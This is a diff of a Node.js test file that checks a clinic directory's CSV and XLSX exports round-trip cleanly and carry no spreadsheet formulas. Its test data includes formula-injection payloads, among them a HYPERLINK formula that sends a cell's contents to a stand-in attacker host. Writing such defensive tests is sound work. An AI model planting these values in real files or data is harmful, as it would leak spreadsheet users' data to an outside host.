@@ -1,13 +1,15 @@
 // What the desk hands out: each format read back, and nothing in it that a spreadsheet would run.
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
-import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { copyFileSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { published, signIn, token } from './desk_support.mjs';
-import { ask, feverctl, sampleStore, startDesk, temporaryFolder } from './support.mjs';
+import { ask, feverctl, fixtures, sampleStore, startDesk, temporaryFolder } from './support.mjs';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', '+1-2', '-2+3', '@SUM(A1)'];
+/* Apostrophes of their own, which are not ours to take off. */
+const QUOTED = ["'春风医院", "'=1+1 医院", "''+2 医院"];
 
 /** The rows of a CSV, quotes taken off. */
 function rowsOf(text) {
@@ -33,7 +35,7 @@ describe('exports of the desk', () => {
   before(async () => {
     store = sampleStore();
     const list = join(temporaryFolder(), 'list.csv');
-    writeFileSync(list, `name,kind,adcode,address\n${HOSTILE.map((name, i) =>
+    writeFileSync(list, `name,kind,adcode,address\n${[...HOSTILE, ...QUOTED].map((name, i) =>
       `"${name.replaceAll('"', '""')}",fever_clinic,110102,西路${i}号`).join('\n')}\n`);
     feverctl(store, 'import', list, '--source', 'hostile');
     desk = await startDesk(store, [], { TMPDIR: uploads });
@@ -70,6 +72,26 @@ describe('exports of the desk', () => {
     assert.equal(published(store), before);
     const [own] = readdirSync(uploads);
     assert.deepEqual(readdirSync(join(uploads, own)), [], 'no file is left behind');
+  });
+
+  test('every export comes back as the same clinics, whatever their names begin with', async () => {
+    const folder = temporaryFolder(), own = published(store);
+    const write = (name, bytes) => { writeFileSync(join(folder, name), bytes); return join(folder, name); };
+    for (const name of [...HOSTILE, ...QUOTED]) assert.ok(own.includes(name.replaceAll('"', '""')), name);
+    const files = [write('desk.csv', (await file('/export/csv')).body), write('desk.xlsx', (await file('/export/xlsx')).body)];
+    for (const name of ['tool.csv', 'tool.xlsx']) {
+      files.push(join(folder, name));
+      feverctl(store, 'export', files.at(-1));
+    }
+    const empty = join(folder, 'empty.db');
+    feverctl(empty, 'init');
+    feverctl(empty, 'import', join(fixtures, 'regions.csv'), '--as', 'regions');
+    for (const path of files) {
+      const fresh = join(temporaryFolder(), 'fresh.db');
+      copyFileSync(empty, fresh);
+      feverctl(fresh, 'import', path);
+      assert.equal(published(fresh), own, path);
+    }
   });
 
   test('GeoJSON has the region\'s clinics', async () => {
